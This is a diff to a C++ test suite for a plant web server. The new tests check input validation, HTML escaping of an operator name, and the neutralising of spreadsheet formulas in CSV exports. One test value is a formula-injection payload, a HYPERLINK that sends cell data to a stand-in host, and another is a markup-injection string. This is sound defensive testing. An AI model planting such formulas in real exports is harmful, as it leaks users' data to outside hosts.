@@ -76,6 +76,17 @@ TEST_F(Pages, EachAddressAnswersWithItsStatusAndALineNamingWhatIsWrong)
         {"/lenses/" + std::string(41, 'L'), 400, "has 41 characters; at most 40"},
         {"/lenses/L-1001", 200, "Every run, oldest first"},
         {"/nowhere", 404, "There is no page /nowhere here."},
+        // Nothing that is not text reaches a page or a query; dates past year 9999 neither.
+        {"/lenses/L%FF", 400, "address: &#39;L%FF&#39; is not UTF-8 text"},
+        {"/lenses/L%FE", 400, "address: &#39;L%FE&#39; is not UTF-8 text"},
+        {"/runs/aaaa0002%0A", 400, "is not UTF-8 text without control characters"},
+        {"/runs?serial=%00", 400, "serial: &#39;%00&#39; is not UTF-8"},
+        {"/quality.csv?operator=%C3", 400, "operator: &#39;%C3&#39; is not UTF-8"},
+        {"/runs?until=9999-12-31", 400, "until: &#39;9999-12-31&#39; is later than any run can be"},
+        // A page past the last is the last; past any number too.
+        {"/runs?station=bench-9&page=2147483647", 200, "Page 2 of 2"},
+        {"/runs?page=99999999999999999999999999", 200, "Page 2 of 2"},
+        {"/runs?page=0", 400, "page: &#39;0&#39;"},
     };
     for (const auto &each : cases) {
         auto res = s_plant->http().Get(each.path);
@@ -138,7 +149,7 @@ TEST_F(Pages, RunsComeAHundredAPageNewestFirstAndTheLinksKeepTheFilter)
     const std::string second = body("/runs?station=bench-9&page=2");
     EXPECT_NE(second.find("101 to 120 shown"), std::string::npos);
     EXPECT_NE(second.find(fillerId(119).left(8).toStdString()), std::string::npos);
-    EXPECT_NE(body("/runs?station=bench-9&page=9").find("Page 9 of 2"), std::string::npos);
+    EXPECT_NE(body("/runs?station=bench-9&page=9").find("Page 2 of 2"), std::string::npos);
 
     const auto api =
         QJsonDocument::fromJson(QByteArray::fromStdString(body("/api/runs?station=bench-9&page=2")))
@@ -222,7 +233,8 @@ TEST_F(Pages, ALensShowsItsKeptCamTablesNewestFirstAndADamagedOneIsNeverHandedOu
     auto records = runs::RunDatabase::openPlant(s_server->connection());
     ASSERT_TRUE(records) << records.error();
     const auto older = testsupport::madeCam(testsupport::camBytes(0), 60, "bench-1", "L-1003");
-    const auto newer = testsupport::madeCam(testsupport::camBytes(7), 120, "bench-1", "L-1003");
+    auto newer = testsupport::madeCam(testsupport::camBytes(7), 120, "bench-1", "L-1003");
+    newer.operatorName = QStringLiteral("%1 <b>");
     ASSERT_TRUE(runs::CamStore(**records).put(older));
     ASSERT_TRUE(runs::CamStore(**records).put(newer));
 
@@ -233,6 +245,7 @@ TEST_F(Pages, ALensShowsItsKeptCamTablesNewestFirstAndADamagedOneIsNeverHandedOu
     ASSERT_NE(at(newer), std::string::npos);
     ASSERT_NE(at(older), std::string::npos);
     EXPECT_LT(at(newer), at(older));
+    EXPECT_NE(page.find("<td>%1 &lt;b&gt;</td>"), std::string::npos) << page;
 
     auto file = s_plant->http().Get("/cams/" + older.id.left(8).toStdString());
     ASSERT_TRUE(file);
@@ -248,6 +261,17 @@ TEST_F(Pages, ALensShowsItsKeptCamTablesNewestFirstAndADamagedOneIsNeverHandedOu
     EXPECT_EQ(damaged->status, 500);
     EXPECT_NE(damaged->body.find(older.id.toStdString()), std::string::npos);
     EXPECT_EQ(damaged->body.find(";;"), std::string::npos);
+}
+
+TEST_F(Pages, CsvCellsAreNeverFormulasAndJsonKeepsTheValues)
+{
+    const std::string csv = body("/runs.csv?station=bench-9");
+    for (const char *cell : {R"x(,"'=HYPERLINK(""http://x/?""&B2)",)x", ",'-5,", ",%2,", ",%1,"})
+        EXPECT_NE(csv.find(cell), std::string::npos) << cell;
+    EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
+    const auto api = QJsonDocument::fromJson(
+        QByteArray::fromStdString(body("/api/runs?station=bench-9&serial=-5")));
+    EXPECT_EQ(api["runs"][0]["serial"].toString(), "-5");
 }
 
 } // namespace
